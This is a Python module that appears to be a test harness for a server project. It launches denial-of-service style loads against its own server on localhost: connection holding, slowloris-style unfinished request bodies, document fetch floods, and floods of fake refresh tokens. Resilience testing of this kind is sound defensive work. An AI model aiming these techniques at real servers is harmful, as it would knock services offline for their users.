"""One address against the edge: `python -m security.attacker <what> <port>`, until it is ended.

A process of its own that is nice: what is measured is what the edge does, not who has the machine.
"""

import contextlib
import itertools
import os
import resource
import socket
import sys
import threading
import time
from collections.abc import Callable

SOURCE = "127.0.0.2"
CONNECTIONS = 4_200
BODIES = 1_800
BODY = 256 * 1024
PAUSE = 0.003
PATHS = ("/metrics", "/openapi.json", "/asyncapi.json", "/docs", "/docs/swagger-ui-bundle.js",
         "/static-offline-docs/swagger-ui-bundle.js", "/health")  # fmt: skip
LENGTH = b"Host: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
REFRESH = b"POST /v1/sessions/refresh HTTP/1.1\r\n" + LENGTH


def connect(port: int) -> socket.socket:
    connected = socket.socket()
    connected.settimeout(5)
    connected.bind((SOURCE, 0))
    connected.connect(("127.0.0.1", port))
    return connected


def get_documents(port: int) -> None:
    """Eight connections, each with the next request as soon as it has its answer."""

    def ask() -> None:
        for path in itertools.cycle(PATHS):
            with contextlib.suppress(OSError), connect(port) as connected:
                connected.sendall(f"GET {path} HTTP/1.0\r\nHost: x\r\n\r\n".encode())
                while connected.recv(1 << 20):
                    pass

    for _ in range(8):
        threading.Thread(target=ask, daemon=True).start()


def hold_connections(port: int) -> None:
    """Each has had an answer and asks nothing more. Says so when they are all there."""
    for _ in range(CONNECTIONS):
        with contextlib.suppress(OSError):
            connected = connect(port)
            HELD.append(connected)
            connected.sendall(b"GET /health/live HTTP/1.1\r\nHost: x\r\n\r\n")
            connected.recv(4096)
    sys.stdout.write("held\n")
    sys.stdout.flush()


def send_unfinished_bodies(port: int) -> None:
    """All but the last byte of each; all there within the time that a body may take."""
    for _ in range(BODIES):
        time.sleep(PAUSE)
        with contextlib.suppress(OSError):
            connected = connect(port)
            HELD.append(connected)
            connected.sendall(REFRESH % BODY + b"\r\n" + b"x" * (BODY - 1))


def send_junk(port: int) -> None:
    """Tokens that nobody has issued, each with an Idempotency-Key."""

    def send() -> None:
        for number in itertools.count():
            body = b'{"refresh_token": "tnt_rt_%d"}' % number
            key = b"Idempotency-Key: %d-%d\r\n" % (threading.get_ident(), number)
            with contextlib.suppress(OSError):
                connected.sendall(REFRESH % len(body) + key + b"\r\n" + body)
                connected.recv(65536)

    for _ in range(8):
        connected = connect(port)
        threading.Thread(target=send, daemon=True).start()


HELD: list[socket.socket] = []
ATTACKS: dict[str, Callable[[int], None]] = {
    each.__name__: each
    for each in (get_documents, hold_connections, send_unfinished_bodies, send_junk)
}


def main() -> None:
    os.nice(15)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ATTACKS[sys.argv[1]](int(sys.argv[2]))
    time.sleep(60)


if __name__ == "__main__":
    main()
